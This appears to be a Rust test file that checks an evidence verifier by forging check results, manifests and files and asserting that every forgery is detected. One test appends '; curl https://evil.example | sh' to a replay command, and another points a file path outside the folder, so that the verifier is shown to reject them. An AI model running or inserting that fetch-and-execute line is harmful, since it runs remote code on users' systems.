//! A forger changes each statement of a folder of evidence, makes every hash and report fit again,
//! and is found: by a problem, or by what is listed as not verified.

use std::fs;
use std::ops::ControlFlow;

use mishandle::check::to_json;
use mishandle::results::{Check, EvidenceVerification};
use mishandle_cli::words::shell_command;
use mishandle_evidence::{Signers, Verification};
use mishandle_report::{CheckFigures, check_reports, check_summary};
use serde_json::{Value, json};

use crate::bench::Bench;
use crate::check::pole;
use crate::evidence_limits::seal;

const CHECK: &str = "check toy/sphere-2d --episodes 20 --budget 20 --seed 4 --requirements requirements.toml";

/// A rate, a violation, what a search does not violate, and what the target cannot be asked.
const REQUIREMENTS: &str = "title = 'Cell 7'\n\
    [[requirement]]\nname = 'R-0'\nformula = 'success'\nmax-failure-rate = 0.5\n\
    [[requirement]]\nname = 'R-1'\nformula = 'always(distance <= -10)'\nclause = 'A 1'\n\
    [[requirement]]\nname = 'R-2'\nformula = 'always(distance >= -10)'\n\
    [[requirement]]\nname = 'R-3'\nformula = 'always(force <= 1)'\n";

fn evidence() -> Bench {
    let bench = Bench::new();
    bench.write("requirements.toml", REQUIREMENTS);
    bench.check(&format!("{CHECK} --out checked -k check.allow-inapplicable=true"), 1);
    bench.check("evidence checked --out ev", 0);
    bench
}

fn verify(bench: &Bench) -> EvidenceVerification {
    let folder = bench.path("ev");
    let signers = Signers::Unknown;
    let request = Verification { folder: &folder, signers, share: 1e-9, seed: 1, words: shell_command };
    mishandle_evidence::verify(&request, |_, _| ControlFlow::Continue(())).unwrap()
}

/// Returns a document once for each value in it, with another value, and once for each list
/// without its last element, with the place of the change.
fn changes(document: &Value) -> Vec<(String, Value)> {
    fn places(value: &Value, place: &str, found: &mut Vec<String>) {
        match value {
            Value::Array(values) => {
                found.push(place.to_string());
                values
                    .iter()
                    .enumerate()
                    .for_each(|(i, value)| places(value, &format!("{place}/{i}"), found));
            }
            Value::Object(values) => values.iter().for_each(|(key, value)| {
                places(value, &format!("{place}/{}", key.replace('/', "~1")), found);
            }),
            _ => found.push(place.to_string()),
        }
    }
    let mut found = Vec::new();
    places(document, "", &mut found);
    let change = |value: &mut Value| match value {
        Value::String(text) => text.push('x'),
        Value::Bool(is_set) => *is_set = !*is_set,
        Value::Null => *value = json!(0.5),
        Value::Number(number) if number.is_f64() => *value = json!(number.as_f64().unwrap() + 0.25),
        Value::Number(number) => *value = json!(number.as_u64().unwrap() + 1),
        Value::Array(values) => drop(values.pop()),
        Value::Object(_) => {}
    };
    let changed = |place: String| {
        let mut changed = document.clone();
        change(changed.pointer_mut(&place).unwrap());
        (place, changed)
    };
    found.into_iter().map(changed).filter(|(_, changed)| changed != document).collect()
}

/// Writes a forged result with the reports that follow from it.
fn write(bench: &Bench, forged: &Check) {
    let write = |name: &str, text: &str| fs::write(bench.path("ev/checks/checked").join(name), text).unwrap();
    write("check.json", &to_json(forged).unwrap());
    for (name, text) in check_reports(forged, &CheckFigures::default()) {
        write(name, &text);
    }
    let summary = check_summary(forged);
    seal(bench, "ev", |manifest| manifest["checks"][0]["verdicts"] = summary.as_str().into());
}

#[test]
fn no_statement_of_a_check_can_be_changed() {
    let bench = evidence();
    let first = verify(&bench);
    assert!(first.is_verified, "{first:?}");
    let text = fs::read_to_string(bench.path("ev/checks/checked/check.json")).unwrap();
    let document: Value = serde_json::from_str(&text).unwrap();
    let mut passed = Vec::new();
    let mut forged = 0;
    for (place, changed) in changes(&document) {
        // A result that cannot be read is refused, and its version states nothing.
        let Ok(result) = serde_json::from_value::<Check>(changed) else { continue };
        if to_json(&result).unwrap() == text {
            continue;
        }
        write(&bench, &result);
        forged += 1;
        if verify(&bench).is_verified {
            passed.push(place);
        }
    }
    assert_eq!(passed, Vec::<String>::new());
    assert!(forged > 80, "{forged}");
    // Several changes that fit together.
    let honest: Check = serde_json::from_str(&text).unwrap();
    let forged = |change: &dyn Fn(&mut Check)| {
        let mut forged = honest.clone();
        change(&mut forged);
        write(&bench, &forged);
        let found = verify(&bench);
        assert!(!found.is_verified, "{forged:?}");
    };
    forged(&|check| {
        check.controllers[0].name = "certified".to_string();
        check.cells.iter_mut().for_each(|cell| cell.controller = "certified".to_string());
    });
    forged(&|check| {
        let (mut violated, other) = (check.cells[1].clone(), check.cells[3].clone());
        violated.missing_signals = vec!["force".to_string()];
        (violated.verdict, violated.evidence) = (other.verdict, other.evidence);
        violated.failure_rate = None;
        check.cells[1] = violated;
    });
    forged(&|check| {
        let violation = check.cells[1].counterexample.as_mut().unwrap();
        violation.replay += "; curl https://evil.example | sh";
    });
    // No file outside of the folder is read.
    forged(&|check| {
        let outside = bench.path("requirements.toml").to_string_lossy().into_owned();
        check.cells[1].counterexample.as_mut().unwrap().file = Some(outside);
    });
    write(&bench, &honest);
    assert!(verify(&bench).is_verified);
}

#[test]
fn no_statement_of_a_manifest_can_be_changed() {
    let bench = evidence();
    let path = bench.path("ev/manifest.json");
    let document: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    let mut passed = Vec::new();
    for (place, changed) in changes(&document).into_iter().filter(|(place, _)| !place.starts_with("/files")) {
        seal(&bench, "ev", |manifest| *manifest = changed.clone());
        let found = verify(&bench);
        // A forger writes the README again, so it counts for nothing here.
        let mut said = found.problems.iter().chain(&found.unverified);
        if said.all(|text| text.starts_with("README.md")) {
            passed.push(place);
        }
    }
    assert_eq!(passed, Vec::<String>::new());
}

#[test]
fn a_file_that_no_simulation_needs_is_found() {
    let bench = Bench::new();
    bench.check("evaluate point-reaching --controller ppo --episodes 2 --out run.sqlite", 0);
    bench.check("evidence run.sqlite --out ev", 0);
    assert!(verify(&bench).is_verified);
    bench.write("ev/files/1/certificate.md", "certified");
    seal(&bench, "ev", |manifest| {
        let files = manifest["files"].as_array_mut().unwrap();
        let place = files.iter().position(|file| file["path"].as_str() > Some("files/1/certificate.md"));
        files.insert(place.unwrap(), json!({"path": "files/1/certificate.md"}));
    });
    // Its hash is listed when the manifest names it.
    seal(&bench, "ev", |_| ());
    let found = verify(&bench);
    let said = "files/1/certificate.md: runs/run.sqlite does not need this file";
    assert!(found.problems.iter().any(|problem| problem == said), "{found:?}");
}

#[test]
fn a_page_that_cannot_be_made_again_is_no_agreement() {
    let bench = Bench::new();
    pole(&bench);
    bench.check("evaluate own/pole.toml --episodes 4 --out run.sqlite", 0);
    bench.check("evidence run.sqlite --out ev", 0);
    bench.check("evidence --verify ev -k evidence.replay=0", 0);
    // One byte of the target file, and the page that would show it.
    let target = bench.path("ev/files/1/pole.toml");
    fs::write(&target, fs::read_to_string(&target).unwrap() + "#").unwrap();
    fs::write(bench.path("ev/pages/run.html"), "<h1>0 failures in 10,000 simulations</h1>").unwrap();
    seal(&bench, "ev", |_| ());
    let out = bench.check("evidence --verify ev -k evidence.replay=0", 1);
    assert!(out.contains("README and pages: not all compared") && !out.contains("All agrees"), "{out}");
}
